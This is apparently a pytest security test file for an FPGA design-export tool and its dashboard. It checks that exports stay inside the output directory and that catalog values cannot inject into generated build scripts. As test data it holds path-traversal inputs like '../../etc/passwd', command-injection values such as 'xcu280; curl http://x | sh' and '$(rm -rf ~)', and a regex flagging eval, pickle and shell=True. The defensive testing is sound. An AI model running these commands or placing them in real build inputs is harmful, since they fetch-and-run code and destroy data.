"""Security (issue 8): inputs are parsed as data only, export never writes outside --out, the
generated scripts cannot be injected into from a catalog, and the dashboard binds to loopback
and runs no uploaded content."""

from __future__ import annotations

import json
import re
import tomllib
from pathlib import Path

import pytest

from dse.errors import DseError
from dse.exporters import check_relative, write_bundle
from dse.exporters.text import safe_component
from tests.fuzzing import HF_CONFIG, ROOT, _set_key, one_error_line, run_cli

# Calls that would run or unpickle data: none may appear in the package or the dashboard.
DANGEROUS = re.compile(r"(?<![.\w])(eval|exec|compile|__import__)\(|\bpickle\b|\bmarshal\b|"
                       r"\bshelve\b|\byaml\.(unsafe_)?load\b|os\.system|shell\s*=\s*True|"
                       r"\bsympify\b|\bparse_expr\b|\bimportlib\.import_module\b|"
                       r"\bnp\.load\b|allow_pickle")


def _sources() -> list[Path]:
    files = [*sorted((ROOT / "dse").rglob("*.py")), ROOT / "app.py"]
    for d in ("pages", "dashboard"):
        files += sorted((ROOT / d).rglob("*.py")) if (ROOT / d).is_dir() else []
    return [f for f in files if f.is_file()]


def test_inputs_are_parsed_as_data_only():
    """Catalogs, designs, spaces and traces are read with tomllib / json only: no eval, exec,
    pickle, unsafe YAML or shell anywhere in dse/ or the dashboard."""
    hits = []
    for f in _sources():
        for i, line in enumerate(f.read_text(encoding="utf-8").splitlines(), 1):
            code = line.split("#", 1)[0]
            if DANGEROUS.search(code):
                hits.append(f"{f.relative_to(ROOT)}:{i}: {line.strip()}")
    assert hits == []
    loaders = "\n".join(f.read_text(encoding="utf-8") for f in _sources())
    assert "tomllib.load" in loaders and "json.loads" in loaders


def test_dashboard_binds_loopback_and_takes_no_code():
    cfg = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert cfg["server"]["address"] == "127.0.0.1"
    for f in _sources():
        text = f.read_text(encoding="utf-8")
        if "file_uploader" in text:  # an upload is only ever handed to the strict loaders
            assert "subprocess" not in text and not DANGEROUS.search(text), f


# ---------------------------------------------------------------- export stays inside --out


@pytest.mark.parametrize("path", ["../x", "../../etc/passwd", "/etc/passwd", "a/../../b",
                                  "a/./b", "", "a\\b", "fpga/../../x", ".hidden/x", "a//b",
                                  "x\x00y"])
def test_bundle_paths_must_be_plain_relative(tmp_path, path):
    with pytest.raises(DseError, match="refusing bundle path"):
        check_relative(path)
    with pytest.raises(DseError):
        write_bundle({path: b"x", "manifest.json": b"{}"}, tmp_path / "out")
    assert not (tmp_path / "out").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == []  # no temporary left either


@pytest.mark.parametrize("name", ["..", "../u280", "/abs", "a/b", ".", "", "x\ny"])
def test_names_used_as_path_components_are_checked(name):
    with pytest.raises(DseError):
        safe_component(name, "draft board")


@pytest.mark.parametrize(("key", "value"), [
    ("name", "../../evil"), ("name", "/abs/evil"), ("draft_device", "../u280"),
    ("draft_device", "/dev/null"), ("draft_model", "../../models/x.toml"),
])
def test_design_names_with_paths_never_write_outside_out(tmp_path, key, value):
    """A design whose names hold '../' or absolute paths is refused (exit 2 or 3, one line)
    and nothing is written anywhere."""
    design = tmp_path / "d" / "design.toml"
    design.parent.mkdir()
    text = (ROOT / "scenarios/systems/paper-config1-u280.toml").read_text(encoding="utf-8")
    design.write_text(_set_key(text, key, json.dumps(value)), encoding="utf-8")
    out = tmp_path / "d" / "out"
    res = run_cli(["export", "--design", str(design), "--scenario", "math500", "--out",
                   str(out)])
    line = one_error_line(res)
    assert res.rc in (2, 3) and line is not None, res.err
    assert sorted(p.name for p in tmp_path.rglob("*")) == ["d", "design.toml"]


def test_model_from_a_path_exports_inside_out(tmp_path):
    """A draft model given as a path (a config.json in a directory named with dots) exports
    fine, and every file lands inside --out."""
    d = tmp_path / "weird..dir" / "qwen-draft"
    d.mkdir(parents=True)
    (d / "config.json").write_text(json.dumps({**HF_CONFIG, "_name_or_path":
                                               "../../../etc\n#define EVIL 1"}))
    design = tmp_path / "design.toml"
    text = (ROOT / "scenarios/systems/paper-config1-u280.toml").read_text(encoding="utf-8")
    design.write_text(_set_key(text, "draft_model", json.dumps(str(d / "config.json"))))
    out = tmp_path / "out"
    before = {p for p in tmp_path.rglob("*")}
    res = run_cli(["export", "--design", str(design), "--scenario", "math500", "--out",
                   str(out), "--set", "draft_model=" + str(d / "config.json")])
    if res.rc != 0:  # the workload knows no accuracy for the path-named model: one line
        assert one_error_line(res) is not None and res.rc in (2, 3), res.err
        return
    new = {p for p in tmp_path.rglob("*")} - before
    assert all(out in p.parents or p == out for p in new), new
    header = (out / "fpga" / "u280" / "draft_config.h").read_text()
    assert "#define EVIL" not in header.replace("?#define EVIL", "")


def _evil_board(tmp_path: Path, key: str, value: str) -> Path:
    cat = tmp_path / "cat"
    cat.mkdir()
    text = (ROOT / "boards/fpgas/u280.toml").read_text(encoding="utf-8")
    text = _set_key(_set_key(text, "name", '"evil-fpga"'), key, json.dumps(value))
    (cat / "evil-fpga.toml").write_text(text, encoding="utf-8")
    return cat


@pytest.mark.parametrize(("key", "value"), [
    ("part", "xcu280; curl http://x | sh"), ("part", "$(rm -rf ~)"),
    ("vitis_platform", "xilinx_u280\nkernel_frequency=0:999"), ("vitis_platform", "a`id`"),
])
def test_catalog_strings_cannot_inject_into_build_files(tmp_path, key, value):
    """A board's part or platform is written unquoted into build.sh and vpp_link.cfg: a value
    that is not one plain word is refused, naming the board file and the key."""
    cat = _evil_board(tmp_path, key, value)
    res = run_cli(["export", "--system", "paper-config1-u280", "--set", "draft_device=evil-fpga",
                   "--catalog", str(cat), "--out", str(tmp_path / "out")])
    line = one_error_line(res)
    assert res.rc == 3 and line is not None, res.err
    assert f"evil-fpga.toml: {key}:" in line
    assert not (tmp_path / "out").exists()
